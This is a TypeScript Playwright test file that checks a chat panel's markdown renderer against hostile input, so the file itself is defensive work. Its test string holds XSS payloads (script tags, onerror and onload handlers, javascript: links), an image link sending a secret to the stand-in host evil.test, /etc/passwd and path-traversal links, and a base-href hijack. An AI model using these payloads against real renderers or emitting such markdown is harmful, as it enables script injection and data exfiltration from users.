import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { Browser } from "playwright-core";
import { launchChromium } from "../support/panel/chromium.ts";
import { PanelPage } from "../support/panel/panel-page.ts";
import { stepStart, text, turnEnd, turnStart } from "../support/panel/scenes.ts";

const hostile = `<script>alert(1)</script><img src="http://evil.test/a.png" onerror="alert(1)"><iframe src="http://evil.test/"></iframe>

![data out](http://evil.test/?secret=1) ![svg](data:image/svg+xml,<svg onload=alert(1)>) <svg onload=alert(1)>

[run](javascript:alert(1)) [cmd](command:workbench.action.quit) [data](data:text/html,x) [vscode](vscode://file/etc/passwd)
[up](../../etc/passwd) [abs](/etc/passwd) [win](C:\\\\Windows) [file](file:///etc/passwd) [unc](\\\\\\\\host\\\\share)

[ok](https://example.com/x?a=1) [mail](mailto:a@example.com) [source](src/a%20b.ts#L12) \`src/net/retry.ts:7\` \`../x.ts:1\`

<style>body{display:none}</style> <a href="javascript:alert(1)">x</a> <base href="http://evil.test/">

[ref]: http://evil.test/ref "t"

\`a\u202eb\` and [ref]
`;

describe("hostile markdown", () => {
  let browser: Browser;
  let panel: PanelPage;

  before(async () => {
    browser = await launchChromium();
    panel = await PanelPage.open(browser);
    await panel.emit(turnStart("x"), stepStart());
    for (let start = 0; start < hostile.length; start += 40) await panel.emit(text(hostile.slice(start, start + 40)));
    await panel.emit(turnEnd());
  });
  after(() => browser.close());

  it("fetches nothing and breaks no rule of the policy", async () => {
    assert.deepEqual(panel.foreignRequests, []);
    assert.deepEqual(await panel.violations(), []);
  });

  it("makes no element of raw HTML, no image, no address and no handler", async () => {
    const found = await panel.page.evaluate(() => {
      const answer = document.querySelector(".answer");
      const elements = [...(answer?.querySelectorAll("*") ?? [])];
      return {
        elements: elements
          .filter((element) => ["SCRIPT", "IMG", "IFRAME", "STYLE", "BASE", "OBJECT", "FORM"].includes(element.tagName))
          .map((element) => element.outerHTML),
        attributes: elements.flatMap((element) =>
          element
            .getAttributeNames()
            .filter((name) => name.startsWith("on") || ["href", "src", "style"].includes(name)),
        ),
        html: answer?.textContent?.includes('<img src="http://evil.test/a.png"'),
      };
    });
    assert.deepEqual(found, { elements: [], attributes: [], html: true });
  });

  it("links only http, https, mailto and files inside the workspace, and shows where each leads", async () => {
    const links = await panel.page.locator(".answer [role=link]").evaluateAll((elements) =>
      elements.map((element) => {
        const { href, path, line } = element instanceof HTMLElement ? element.dataset : {};
        return [element.textContent, href ?? `${path}:${line}`];
      }),
    );
    assert.deepEqual(links, [
      ["http://evil.test/a.png", "http://evil.test/a.png"],
      ["http://evil.test/", "http://evil.test/"],
      ["ok", "https://example.com/x?a=1"],
      ["mail", "mailto:a@example.com"],
      ["source", "src/a b.ts:12"],
      ["src/net/retry.ts:7", "src/net/retry.ts:7"],
      ["http://evil.test/", "http://evil.test/"],
      ["ref", "http://evil.test/ref"],
    ]);
  });

  it("asks the host to open what is clicked or entered", async () => {
    await panel.page.getByRole("link", { name: "ok" }).click();
    await panel.page.getByRole("link", { name: "source" }).press("Enter");
    assert.deepEqual(await panel.posts(), [
      { type: "open-link", href: "https://example.com/x?a=1" },
      { type: "open-file", path: "src/a b.ts", line: 12 },
    ]);
  });

  it("writes direction overrides out", async () => {
    assert.match((await panel.page.locator(".answer").textContent()) ?? "", /a\[U\+202E\]b/);
  });
});
